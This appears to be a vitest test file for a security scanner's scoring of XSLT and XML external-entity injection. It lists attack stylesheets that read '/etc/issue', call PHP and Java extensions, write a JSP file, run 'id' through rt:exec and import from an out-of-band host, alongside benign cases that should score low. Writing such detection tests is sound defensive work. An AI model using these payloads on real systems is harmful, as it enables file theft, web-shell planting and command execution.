import { describe, expect, it } from 'vitest'
import { familyTotalOf, totalOf } from './scan-score.ts'

const sheet = (inside: string, names = '') =>
  `<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"${names}>\n` +
  `  <xsl:template match="/">\n    ${inside}\n  </xsl:template>\n</xsl:stylesheet>`

const attacks: readonly string[] = [
  sheet(`<xsl:value-of select="system-property('xsl:vendor')"/>`),
  sheet(`<xsl:copy-of select="document('/etc/issue')"/>`),
  sheet(`<xsl:value-of select="unparsed-text('/etc/issue','utf-8')"/>`),
  sheet(`<xsl:value-of select="php:function('phpversion')"/>`, ' xmlns:php="http://php.net/xsl"'),
  sheet('<xsl:value-of select="d:new()"/>', ' xmlns:d="http://xml.apache.org/xalan/java/java.util.Date"'),
  sheet('<e:document href="a.txt" method="text">x</e:document>', ' xmlns:e="http://exslt.org/common"'),
  sheet('<r:write file="/srv/a.jsp">x</r:write>', ' xmlns:r="http://xml.apache.org/xalan/redirect"'),
  sheet('<msxsl:script language="C#" implements-prefix="u">x</msxsl:script>'),
  '<xsl:stylesheet version="1.0"><xsl:import href="http://oob.example/a.xsl"/></xsl:stylesheet>',
]

const harmless: readonly string[] = [
  sheet('<xsl:apply-templates select="@* | node()"/>', ' xmlns:msxsl="urn:schemas-microsoft-com:xslt"'),
  sheet('<xsl:value-of select="name"/>'),
  "How do I call document('a.xml') in a style sheet?",
  '<script>document.write("x")</script>',
]

describe('style sheets', () => {
  it.each(attacks)('are denied where they read, write or run: %s', (value) => {
    expect(familyTotalOf('xxe', value)).toBeGreaterThanOrEqual(80)
  })

  it.each(harmless)('are not else: %s', (value) => {
    expect(familyTotalOf('xxe', value)).toBeLessThan(40)
  })

  it.each([
    [`document('/etc/issue')`, 'body.xml./xsl:stylesheet/xsl:template/xsl:copy-of@select'],
    [`rt:exec($o,'id')`, 'body.xml./xsl:stylesheet/xsl:template/xsl:value-of@select'],
    ['http://oob.example/', 'body.xml./a/i:include@href'],
    ['http://oob.example/a.xsl', 'body.xml./xsl:stylesheet/xsl:import@href'],
    ['http://oob.example/', 'body.xml./xs:schema/xs:include@namespace'],
    ['http://oob.example/', 'body.xml./a@xsi:schemaLocation'],
    ['xml-stylesheet type="text/xsl" href="http://oob.example/a.xsl"', 'body.xml.instruction'],
  ])('are known by the place in a body of XML: %s', (value, where) => {
    expect(familyTotalOf('xxe', value, { kind: 'body', where })).toBeGreaterThanOrEqual(80)
  })

  it.each([
    ['http://www.opengis.net/gml/3.2 http://schemas.opengis.net/gml/3.2.1/gml.xsd', 'body.xml./a@xsi:schemaLocation'],
    ['http://schemas.example.org/a.xsd', 'body.xml./a@xsi:schemaLocation'],
    ['http://www.w3.org/2001/xml.xsd', 'body.xml./xs:schema/xs:import@schemaLocation'],
    ['http://example.org/a', 'body.xml./feed/link@href'],
    [`document('/x')`, 'body.json./text'],
  ])('are not where others stand: %s in %s', (value, where) => {
    expect(totalOf(value, { kind: 'body', where })).toBeLessThan(40)
  })
})
